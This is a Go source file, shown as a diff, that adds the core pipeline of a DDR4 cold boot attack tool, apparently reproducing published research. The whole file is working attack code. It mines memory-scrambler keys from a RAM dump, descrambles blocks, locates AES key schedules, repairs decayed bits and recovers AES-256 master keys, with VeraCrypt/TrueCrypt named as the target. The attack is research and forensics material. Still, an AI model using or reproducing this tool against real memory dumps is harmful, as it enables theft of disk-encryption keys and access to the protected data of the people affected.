@@ -1,0 +1,294 @@
+package core
+
+import (
+	"fmt"
+	"runtime"
+	"sort"
+	"sync"
+
+	"coldboot/internal/aes"
+)
+
+// Config tunes the full attack pipeline.
+type Config struct {
+	// Variant is the AES key size hunted for (default AES256, the
+	// VeraCrypt/TrueCrypt case).
+	Variant aes.Variant
+	// LitmusTolerance is the scrambler-key litmus bit budget.
+	LitmusTolerance int
+	// AESTolerance is the schedule-prediction compare bit budget.
+	AESTolerance int
+	// MergeDistance merges decayed key sightings (see MineOptions).
+	MergeDistance int
+	// MineMaxBytes bounds the mining pass (0 = whole dump). The paper
+	// mined all keys from under 16 MB.
+	MineMaxBytes int
+	// MinVerifyScore accepts a candidate master whose full-schedule match
+	// fraction reaches this value (default 0.80; correct keys score ~1.0,
+	// wrong ones ~0.5).
+	MinVerifyScore float64
+	// Exhaustive forces trying every mined key on every block (the paper's
+	// literal step 2) instead of the stride-inferred per-address-class
+	// directory. Much slower; used for validation on small dumps.
+	Exhaustive bool
+	// RepairFlips enables window repair of decayed anchors (0 = off,
+	// 1 = single-bit, 2 = double-bit).
+	RepairFlips int
+	// GroundDump, when non-nil (same length as the dump), enables
+	// ground-state-aware repair: a second dump of the same DIMM taken
+	// after full decay WITHOUT rebooting (the keystream cancels in the
+	// comparison), restricting repair to bits that could physically have
+	// decayed and affording a deeper (3-flip) search. See groundrepair.go.
+	GroundDump []byte
+	// Workers is the scan parallelism (default GOMAXPROCS).
+	Workers int
+	// KeysForBlock, when non-nil, overrides the key directory entirely
+	// (used by tests and by attacks with out-of-band key knowledge).
+	KeysForBlock KeyDirectory
+}
+
+func (c Config) withDefaults() Config {
+	if c.Variant == 0 {
+		c.Variant = aes.AES256
+	}
+	if c.LitmusTolerance == 0 {
+		c.LitmusTolerance = DefaultLitmusTolerance
+	}
+	if c.AESTolerance == 0 {
+		c.AESTolerance = DefaultAESTolerance
+	}
+	if c.MinVerifyScore == 0 {
+		c.MinVerifyScore = 0.80
+	}
+	if c.Workers <= 0 {
+		c.Workers = runtime.GOMAXPROCS(0)
+	}
+	return c
+}
+
+// FoundKey is one recovered AES master key.
+type FoundKey struct {
+	Master     []byte
+	Variant    aes.Variant
+	TableStart int     // dump byte offset of the in-memory key schedule
+	Score      float64 // full-schedule verification match fraction
+	Anchors    int     // number of independent anchor hits that agreed
+}
+
+// Result is the attack's full output.
+type Result struct {
+	Mine          *MineResult
+	Stride        int     // inferred key-reuse period in blocks (0 = none)
+	Coverage      float64 // fraction of address classes with a mined key
+	BlocksScanned int
+	PairsTested   int64 // (block, key) combinations examined
+	Keys          []FoundKey
+}
+
+// Attack runs the complete DDR4 cold boot attack on a scrambled memory
+// dump: mine scrambler keys, locate AES key schedules, and recover master
+// keys. The dump may be single- or double-scrambled (victim-only, or victim
+// XOR attacker keystream — the litmus invariants survive both) and may
+// contain bit decay.
+func Attack(dump []byte, cfg Config) (*Result, error) {
+	cfg = cfg.withDefaults()
+	if len(dump)%BlockBytes != 0 {
+		return nil, fmt.Errorf("core: dump length %d not block aligned", len(dump))
+	}
+
+	if cfg.GroundDump != nil && len(cfg.GroundDump) != len(dump) {
+		return nil, fmt.Errorf("core: ground dump length %d != dump length %d", len(cfg.GroundDump), len(dump))
+	}
+	mine, err := MineKeys(dump, MineOptions{
+		Tolerance:     cfg.LitmusTolerance,
+		MergeDistance: cfg.MergeDistance,
+		MaxBytes:      cfg.MineMaxBytes,
+	})
+	if err != nil {
+		return nil, err
+	}
+	res := &Result{Mine: mine, BlocksScanned: len(dump) / BlockBytes}
+
+	directory := cfg.KeysForBlock
+	if directory == nil {
+		res.Stride = mine.InferStride()
+		if cfg.Exhaustive || res.Stride == 0 {
+			directory = AllKeysDirectory(mine)
+		} else {
+			res.Coverage = mine.Coverage(res.Stride)
+			directory = ResidueDirectory(mine, res.Stride)
+		}
+	}
+
+	// Zero-data blocks are exactly the mined-key sightings: skip them (they
+	// cannot contain schedules, and their degenerate windows waste time).
+	skip := make(map[int]bool)
+	for _, k := range mine.Keys {
+		for _, p := range k.Positions {
+			skip[p] = true
+		}
+	}
+	// Decayed zero blocks can fail the exact-tolerance litmus and evade the
+	// mined-position skip; they are still recognizable as approximate
+	// keystream (litmus distance far below random's ~128 expected bits).
+	const zeroBlockSkipDistance = 48
+
+	type candidate struct {
+		master  string
+		start   int
+		score   float64
+		anchors int
+	}
+	nBlocks := len(dump) / BlockBytes
+	nk := cfg.Variant.Nk()
+
+	var mu sync.Mutex
+	var pairs int64
+	found := make(map[string]*FoundKey)
+	record := func(master []byte, start int, score float64) {
+		mu.Lock()
+		defer mu.Unlock()
+		k := string(master)
+		if f, ok := found[k]; ok {
+			f.Anchors++
+			if score > f.Score {
+				f.Score = score
+				f.TableStart = start
+			}
+			return
+		}
+		found[k] = &FoundKey{
+			Master:     append([]byte{}, master...),
+			Variant:    cfg.Variant,
+			TableStart: start,
+			Score:      score,
+			Anchors:    1,
+		}
+	}
+
+	var wg sync.WaitGroup
+	chunk := (nBlocks + cfg.Workers - 1) / cfg.Workers
+	for w := 0; w < cfg.Workers; w++ {
+		lo, hi := w*chunk, (w+1)*chunk
+		if hi > nBlocks {
+			hi = nBlocks
+		}
+		if lo >= hi {
+			continue
+		}
+		wg.Add(1)
+		go func(lo, hi int) {
+			defer wg.Done()
+			descrambled := make([]byte, BlockBytes)
+			var localPairs int64
+			for b := lo; b < hi; b++ {
+				if skip[b] {
+					continue
+				}
+				stored := dump[b*BlockBytes : (b+1)*BlockBytes]
+				if KeyLitmusDistance(stored) <= zeroBlockSkipDistance {
+					continue // decayed zero block: approximate keystream
+				}
+				for _, key := range directory(b) {
+					localPairs++
+					for i := range descrambled {
+						descrambled[i] = stored[i] ^ key[i]
+					}
+					hits := AESLitmus(descrambled, cfg.Variant, cfg.AESTolerance)
+					// Single-flip repair is cheap (prediction-prefiltered), so
+					// every failing hit may try it; the quadratic double-flip
+					// and cubic ground-state searches are rationed per
+					// (block, key) pair.
+					doubleRepairsLeft := 4
+					groundRepairsLeft := 4
+					for _, hit := range hits {
+						if windowDegenerate(descrambled, hit, nk) {
+							continue
+						}
+						start := hit.TableStart(b)
+						if start < 0 || start+cfg.Variant.ScheduleBytes() > len(dump) {
+							continue
+						}
+						master := MasterFromHit(descrambled, hit, cfg.Variant)
+						score := VerifySchedule(dump, directory, master, start, cfg.Variant)
+						if score < cfg.MinVerifyScore && cfg.GroundDump != nil && groundRepairsLeft > 0 {
+							groundRepairsLeft--
+							master, score = RepairWindowGround(dump, cfg.GroundDump, directory,
+								descrambled, b, hit, cfg.Variant, 3, cfg.MinVerifyScore)
+						} else if score < cfg.MinVerifyScore && cfg.RepairFlips > 0 {
+							flips := 1
+							if cfg.RepairFlips >= 2 && doubleRepairsLeft > 0 {
+								doubleRepairsLeft--
+								flips = cfg.RepairFlips
+							}
+							master, score = RepairWindow(dump, directory, descrambled, b, hit,
+								cfg.Variant, flips, cfg.MinVerifyScore)
+						}
+						if score >= cfg.MinVerifyScore {
+							// Correct residual linear-chain bit errors via
+							// schedule-redundancy majority voting before
+							// accepting the key.
+							master, score = RefineMaster(dump, directory, master, start, cfg.Variant)
+							record(master, start, score)
+						}
+					}
+				}
+			}
+			mu.Lock()
+			pairs += localPairs
+			mu.Unlock()
+		}(lo, hi)
+	}
+	wg.Wait()
+	res.PairsTested = pairs
+
+	candidates := make([]FoundKey, 0, len(found))
+	for _, f := range found {
+		candidates = append(candidates, *f)
+	}
+	sort.Slice(candidates, func(i, j int) bool {
+		if candidates[i].Score != candidates[j].Score {
+			return candidates[i].Score > candidates[j].Score
+		}
+		if candidates[i].TableStart != candidates[j].TableStart {
+			return candidates[i].TableStart < candidates[j].TableStart
+		}
+		return string(candidates[i].Master) < string(candidates[j].Master)
+	})
+	// Suppress shift-family aliases: a window anchored at the wrong
+	// schedule index (off by a multiple of the Nk period) yields a "master"
+	// whose expansion is the true schedule shifted a few words — it still
+	// verifies at ~0.9 because most of its range overlaps the real table.
+	// Greedily keep the best-scoring candidate per overlapping region; the
+	// true master always scores strictly higher than its shifts.
+	schedBytes := cfg.Variant.ScheduleBytes()
+	for _, c := range candidates {
+		alias := false
+		for _, kept := range res.Keys {
+			lo, hi := c.TableStart, c.TableStart+schedBytes
+			if kept.TableStart > lo {
+				lo = kept.TableStart
+			}
+			if kept.TableStart+schedBytes < hi {
+				hi = kept.TableStart + schedBytes
+			}
+			if hi-lo >= schedBytes/2 {
+				alias = true
+				break
+			}
+		}
+		if !alias {
+			res.Keys = append(res.Keys, c)
+		}
+	}
+	return res, nil
+}
+
+// Masters returns just the recovered master keys, best first.
+func (r *Result) Masters() [][]byte {
+	out := make([][]byte, len(r.Keys))
+	for i, k := range r.Keys {
+		out[i] = k.Master
+	}
+	return out
+}
